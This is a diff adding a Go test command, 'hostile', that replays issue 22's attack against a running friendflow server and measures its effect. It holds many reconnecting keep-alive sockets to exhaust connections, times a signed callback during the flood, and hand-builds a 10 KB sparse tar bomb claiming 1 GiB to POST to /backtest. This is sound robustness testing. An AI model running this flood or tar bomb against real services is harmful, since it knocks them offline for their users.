@@ -1,0 +1,239 @@
+// Command hostile tries a running `friendflow serve` as issue 22's attacker
+// did, and measures what a genuine caller sees meanwhile: it holds many
+// keep-alive sockets that each send one request without credentials (and
+// reconnect whenever the server closes them), then times one signed
+// callback, and reports the server's peak memory (VmHWM from
+// /proc/PID/status). With -tar it POSTs a 10 KB PAX sparse tar whose file
+// claims 1 GiB to /backtest instead and times the refusal.
+//
+//	hostile -pid $(pidof friendflow) -target 127.0.0.1:8080 -path /nope -sockets 1100 \
+//	        -listen 127.0.0.1:8080 -token TOKEN -sdkappid 1400000000
+//	hostile -pid … -target 127.0.0.1:9090 -path /healthz -sockets 20000 -listen … -token …
+//	hostile -pid … -tar 127.0.0.1:9090
+//
+// It raises its own descriptor limit to what the sockets need (root may
+// raise the hard limit too).
+package main
+
+import (
+	"bufio"
+	"bytes"
+	"flag"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"strconv"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"syscall"
+	"time"
+
+	"github.com/friendflow/friendflow/engine/imcallback"
+	"github.com/friendflow/friendflow/examples/callbacks"
+)
+
+func main() {
+	pid := flag.Int("pid", 0, "the friendflow process, whose VmHWM is reported")
+	target := flag.String("target", "", "host:port the sockets connect to")
+	path := flag.String("path", "/nope", "path each socket GETs")
+	sockets := flag.Int("sockets", 1100, "keep-alive sockets held")
+	hold := flag.Duration("hold", 5*time.Second, "how long the sockets are held before the signed callback")
+	listen := flag.String("listen", "", "friendflow's callback listener")
+	token := flag.String("token", "", "the callback token")
+	sdkappid := flag.Int("sdkappid", 1400000000, "SdkAppid")
+	tarTo := flag.String("tar", "", "admin host:port: POST the sparse tar bomb to /backtest instead")
+	reconnect := flag.Bool("reconnect", true, "open a new socket whenever the server closes one")
+	floodOnly := flag.Bool("flood-only", false, "only hold the sockets for -hold (a second process adds sockets past one process's descriptor limit)")
+	flag.Parse()
+
+	if *tarTo != "" {
+		start := time.Now()
+		resp, err := http.Post("http://"+*tarTo+"/backtest", "application/x-tar", bytes.NewReader(sparseBomb(1<<30)))
+		if err != nil {
+			log.Fatal(err)
+		}
+		body, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		fmt.Printf("tar bomb (10 KiB claiming 1 GiB): %d in %s: %s\n", resp.StatusCode, time.Since(start).Round(time.Millisecond), strings.TrimSpace(string(body)))
+		fmt.Printf("server VmHWM %s\n", vmHWM(*pid))
+		return
+	}
+
+	raiseNoFile(uint64(*sockets) + 1000)
+	var open, served atomic.Int64
+	stop := make(chan struct{})
+	var wg sync.WaitGroup
+	req := []byte("GET " + *path + " HTTP/1.1\r\nHost: " + *target + "\r\nUser-Agent: hostile\r\n\r\n")
+	for range *sockets {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			hammer(*target, req, *reconnect, stop, &open, &served)
+		}()
+	}
+	time.Sleep(*hold)
+	if *floodOnly {
+		close(stop)
+		wg.Wait()
+		return
+	}
+	fmt.Printf("%d sockets to %s%s: %d open now, %d replies so far\n", *sockets, *target, *path, open.Load(), served.Load())
+
+	status, took, err := signedCallback(*listen, *token, *sdkappid)
+	fmt.Printf("signed callback during the flood: %d in %s (err %v)\n", status, took.Round(time.Millisecond), err)
+	if strings.HasSuffix(*path, "healthz") || strings.HasSuffix(*path, "readyz") {
+		start := time.Now()
+		resp, err := (&http.Client{Timeout: 10 * time.Second}).Get("http://" + *target + "/readyz")
+		if err == nil {
+			resp.Body.Close()
+			fmt.Printf("/readyz probe during the flood: %d in %s\n", resp.StatusCode, time.Since(start).Round(time.Millisecond))
+		} else {
+			fmt.Printf("/readyz probe during the flood: %v after %s\n", err, time.Since(start).Round(time.Millisecond))
+		}
+	}
+	fmt.Printf("server VmHWM %s, %d replies to the flood\n", vmHWM(*pid), served.Load())
+	close(stop)
+	wg.Wait()
+}
+
+// hammer holds one keep-alive socket that has sent req, opening a new one
+// whenever the server closes it, until stop.
+func hammer(target string, req []byte, reconnect bool, stop chan struct{}, open, served *atomic.Int64) {
+	for {
+		select {
+		case <-stop:
+			return
+		default:
+		}
+		c, err := net.DialTimeout("tcp", target, 3*time.Second)
+		if err != nil {
+			time.Sleep(100 * time.Millisecond)
+			continue
+		}
+		open.Add(1)
+		done := make(chan struct{})
+		go func() {
+			select {
+			case <-stop:
+				c.Close()
+			case <-done:
+			}
+		}()
+		if _, err := c.Write(req); err == nil {
+			br := bufio.NewReader(c)
+			for {
+				resp, err := http.ReadResponse(br, nil)
+				if err != nil {
+					break
+				}
+				_, _ = io.Copy(io.Discard, resp.Body)
+				resp.Body.Close()
+				served.Add(1)
+				// Keep-alive: send nothing more, hold the socket.
+			}
+		}
+		close(done)
+		c.Close()
+		open.Add(-1)
+		if !reconnect {
+			<-stop
+			return
+		}
+	}
+}
+
+func signedCallback(listen, token string, sdkappid int) (int, time.Duration, error) {
+	rt := strconv.FormatInt(time.Now().Unix(), 10)
+	q := url.Values{"SdkAppid": {strconv.Itoa(sdkappid)}, "CallbackCommand": {"Sns.CallbackFriendAdd"}, "contenttype": {"json"},
+		"ClientIP": {"127.0.0.1"}, "OptPlatform": {"RESTAPI"}, "RequestTime": {rt}, "Sign": {imcallback.Sign([]byte(token), rt)}}
+	client := &http.Client{Timeout: 30 * time.Second}
+	start := time.Now()
+	resp, err := client.Post("http://"+listen+"/callback?"+q.Encode(), "application/json", bytes.NewReader(callbacks.Must("friend_add.json")))
+	if err != nil {
+		return 0, time.Since(start), err
+	}
+	_, _ = io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+	return resp.StatusCode, time.Since(start), nil
+}
+
+func vmHWM(pid int) string {
+	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
+	if err != nil {
+		return err.Error()
+	}
+	for _, l := range strings.Split(string(b), "\n") {
+		if v, ok := strings.CutPrefix(l, "VmHWM:"); ok {
+			return strings.TrimSpace(v)
+		}
+	}
+	return "?"
+}
+
+func raiseNoFile(n uint64) {
+	var r syscall.Rlimit
+	if err := syscall.Getrlimit(syscall.RLIMIT_NOFILE, &r); err != nil {
+		return
+	}
+	if r.Cur >= n {
+		return
+	}
+	r.Cur = n
+	if r.Max < n {
+		r.Max = n
+	}
+	if err := syscall.Setrlimit(syscall.RLIMIT_NOFILE, &r); err != nil {
+		log.Printf("descriptor limit stays %d: %v", r.Cur, err)
+	}
+}
+
+// sparseBomb is a tar of ~10 KB whose one file, x.yaml, claims size bytes
+// (GNU sparse format 1.0 in PAX headers:
+// https://www.gnu.org/software/tar/manual/html_node/Sparse-Formats.html);
+// archive/tar cannot write sparse files, so the blocks are written by hand.
+func sparseBomb(size int64) []byte {
+	var b bytes.Buffer
+	pax := ""
+	for _, kv := range [][2]string{{"GNU.sparse.major", "1"}, {"GNU.sparse.minor", "0"},
+		{"GNU.sparse.name", "x.yaml"}, {"GNU.sparse.realsize", fmt.Sprint(size)}} {
+		rec := " " + kv[0] + "=" + kv[1] + "\n"
+		n := len(rec) + 1
+		for len(fmt.Sprint(n))+len(rec) != n {
+			n++
+		}
+		pax += fmt.Sprint(n) + rec
+	}
+	b.Write(tarBlock("PaxHeaders/x.yaml", int64(len(pax)), 'x'))
+	b.Write(pad512([]byte(pax)))
+	data := append(pad512(fmt.Appendf(nil, "1\n%d\n1\n", size-1)), pad512([]byte("r"))...)
+	b.Write(tarBlock("GNUSparseFile.0/x.yaml", int64(len(data)), '0'))
+	b.Write(data)
+	b.Write(make([]byte, 10<<10-b.Len()))
+	return b.Bytes()
+}
+
+func pad512(p []byte) []byte { return append(p, make([]byte, (512-len(p)%512)%512)...) }
+
+func tarBlock(name string, size int64, typ byte) []byte {
+	h := make([]byte, 512)
+	copy(h[0:], name)
+	copy(h[100:], "0000644\x00")
+	copy(h[108:], "0000000\x00")
+	copy(h[116:], "0000000\x00")
+	copy(h[124:], fmt.Sprintf("%011o\x00", size))
+	copy(h[136:], fmt.Sprintf("%011o\x00", 0))
+	h[156] = typ
+	copy(h[257:], "ustar\x0000")
+	copy(h[148:], "        ")
+	sum := 0
+	for _, c := range h {
+		sum += int(c)
+	}
+	copy(h[148:], fmt.Sprintf("%06o\x00 ", sum))
+	return h
+}
